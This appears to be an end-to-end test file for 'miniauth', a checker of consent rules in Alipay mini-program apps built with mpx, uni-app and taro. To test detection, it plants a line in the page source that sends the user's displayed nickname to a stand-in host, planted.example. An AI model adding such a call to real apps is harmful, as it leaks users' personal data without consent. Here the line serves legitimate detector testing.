import assert from 'node:assert/strict';
import { cp, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { SourceMap } from 'node:module';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { startStack } from '../../simulator/stack.mjs';
import { installPacked } from '../bare/support/packed.mjs';
import { findBinary } from '../support/binary.mjs';
import { launchBrowser } from '../support/browser.mjs';
import { run } from '../support/program.mjs';

/**
 * The examples in other frameworks, each built by the framework's own tool, from its lock file and with the packed package, and
 * run in the simulator and checked by `miniauth check`. Every run has mpx, which installs fastest; long runs have the others, which take a minute and more, and
 * minify mpx's output, which is slowest of all.
 */
const EXAMPLES = process.env.MINIAUTH_LONG
  ? {
      mpx: { built: 'dist/ali', page: 'src/pages/member/member.mpx', shown: 'this.user' },
      // Its source maps omit the folder of the sources.
      'uni-app': {
        built: 'dist/build/mp-alipay',
        page: 'src/pages/member/member.vue',
        named: 'pages/member/member.vue',
        shown: 'display.value',
      },
      taro: { built: 'dist', page: 'src/pages/member/member.tsx', shown: 'display' },
    }
  : { mpx: { built: 'dist/ali', page: 'src/pages/member/member.mpx', shown: 'this.user', options: ['--', '--mode=development'] } };

/** Code that makes a page fail after loading, added to the line that imports the client. */
const FAILING = "; setTimeout(() => { throw new Error('on purpose'); })";
const IMPORT = /^import \{ auth\b.*(?=;$)/m;

/** Code that sends what the page shows of the user, planted after the logout. The simulator never runs it. */
const planted = (shown) => ` if (my.planted) my.request({ url: 'https://planted.example/', data: { name: ${shown}.nickName } });`;
const LOGOUT = /await (?:auth\.)?logout\(\);/;

/** The planted call as built; without it, the page breaks no rule. */
const SENDS = /my\.request\((?=\{\s*url:\s*["']https:\/\/planted\.example)/;

const PATIENCE = 10_000;

let folder;
let packed;
let browser;
before(async () => {
  folder = await mkdtemp(path.join(tmpdir(), 'miniauth-frameworks-'));
  [packed, browser] = await Promise.all([installPacked(), launchBrowser()]);
});
after(async () => {
  await browser?.close();
  await packed?.remove();
  await rm(folder, { recursive: true, force: true });
});

for (const [name, { built, page, named = page, shown, options = [] }] of Object.entries(EXAMPLES)) {
  describe(name, () => {
    let output;
    let lines;
    before(async () => {
      const done = await build(name, page, shown, options);
      output = path.join(done.app, built);
      lines = done.lines;
    });

    test('refuse, show, join, phone, order, logout; and an error leads to its source', async () => {
      const stack = await startStack({ binary: findBinary(), stateDir: path.join(folder, `${name}-state`), appDir: output });
      try {
        const phone = await open(stack);
        await phone.press('.show');
        await phone.decide('refuse');
        await phone.reads('.advice', /您已拒绝授权/);
        await phone.press('.show');
        await phone.decide('accept');
        await phone.reads('.display-name', '张伟');
        assert.equal(await phone.count('.advice'), 0);
        await phone.press('.join');
        await phone.decide('accept');
        await phone.reads('.member-name', '张伟');
        await phone.press('.phone');
        await phone.decide('accept');
        await phone.reads('.phone-number', '138****1234');
        await phone.press('.order');
        await phone.reads('.customer', '张伟');
        await phone.press('.logout');
        await phone.leaves('.customer');
        for (const gone of ['.display-name', '.member-name', '.phone-number', '.advice']) assert.equal(await phone.count(gone), 0, gone);
        const errors = (await phone.errors()).map((entry) => JSON.parse(entry));
        assert.deepEqual(
          errors.map((error) => [error.message, error.file, error.line]),
          [['Error: on purpose', named, lines.failing]],
        );
      } finally {
        await stack.stop();
      }
    });

    test('the checker follows the page to its end and finds the display information that its source sends', async () => {
      const { code, report } = await check(output);
      assert.equal(code, 1, JSON.stringify(report.summary));
      assert.equal(report.summary.complete, true, JSON.stringify(report.summary));
      const found = report.findings.map(({ rule, place }) => [rule, place.file]);
      assert.deepEqual(found, [['display-only-forwarded', 'pages/member/member.js']]);
      const { source, line } = await originOf(output, report.findings[0].place);
      assert.ok(source.includes(path.basename(page)), source);
      assert.equal(line, lines.planted);

      const clean = path.join(folder, `${name}-clean`);
      await cp(output, clean, { recursive: true });
      const script = path.join(clean, 'pages/member/member.js');
      const text = await readFile(script, 'utf8');
      assert.match(text, SENDS);
      await writeFile(script, text.replace(SENDS, 'my.alert('));
      const without = await check(clean);
      assert.deepEqual([without.code, without.report.findings], [0, []]);
      const { pages, followed } = without.report.summary.coverage;
      assert.deepEqual([pages, followed], [1, 1]);
    });
  });
}

/** Checks a folder. */
async function check(app) {
  const { code, stdout, stderr } = await run([findBinary(), 'check', app, '--format', 'json', '--lang', 'en']);
  assert.ok(stdout.startsWith('{'), stderr);
  return { code, report: JSON.parse(stdout) };
}

/** Where a place in built code comes from, by the source map that its file names. */
async function originOf(app, { file, line, column }) {
  const built = path.join(app, file);
  const [, map] = /\n\/\/# sourceMappingURL=(\S+)\s*$/.exec(await readFile(built, 'utf8'));
  const sources = new SourceMap(JSON.parse(await readFile(path.join(path.dirname(built), map), 'utf8')));
  const { originalSource, originalLine } = sources.findEntry(line - 1, column - 1);
  return { source: originalSource, line: originalLine + 1 };
}

/** Copies the example, adds an error and a breach to its page, installs it and builds it with these options. */
async function build(name, page, shown, options) {
  const app = path.join(folder, name);
  const source = fileURLToPath(new URL(`../../examples/${name}`, import.meta.url));
  await cp(source, app, { recursive: true, filter: (file) => !/\/(?:node_modules|dist|\.cache)$/.test(file) });
  const text = await readFile(path.join(app, page), 'utf8');
  const lineOf = (pattern) => text.slice(0, text.search(pattern)).split('\n').length;
  const lines = { failing: lineOf(IMPORT), planted: lineOf(LOGOUT) };
  const changed = text.replace(IMPORT, (found) => found + FAILING).replace(LOGOUT, (found) => found + planted(shown));
  await writeFile(path.join(app, page), changed);
  const npm = async (...words) => {
    const { code, stdout, stderr } = await run(['npm', ...words], { cwd: app });
    assert.equal(code, 0, `npm ${words.join(' ')}\n${stdout.slice(-2000)}\n${stderr.slice(-2000)}`);
  };
  await npm('ci', '--ignore-scripts', '--no-audit', '--no-fund', '--prefer-offline');
  await npm('install', '--ignore-scripts', '--no-audit', '--no-fund', '--no-save', '--offline', packed.tarball);
  await npm('run', 'build', ...options);
  return { app, lines };
}

/** Opens the app on the phone of a test user. */
async function open({ urls }) {
  const page = await (await browser.newContext({ viewport: { width: 1280, height: 900 } })).newPage();
  page.setDefaultTimeout(PATIENCE);
  await page.goto(`${urls.simulator}/?user=zhang-wei`);
  const screen = page.locator('.phone-page');
  return {
    press: (selector) => screen.locator(`${selector} >> visible=true`).first().click(),
    decide: (decision) => page.locator(`[data-panel="consent"] [data-action="${decision}"]`).click(),
    reads: (selector, hasText) => screen.locator(selector, { hasText }).waitFor(),
    leaves: (selector) => screen.locator(selector).waitFor({ state: 'detached' }),
    count: (selector) => screen.locator(selector).count(),
    errors: () => page.locator('li[data-kind="error"]').evaluateAll((items) => items.map((item) => item.dataset.entry)),
  };
}
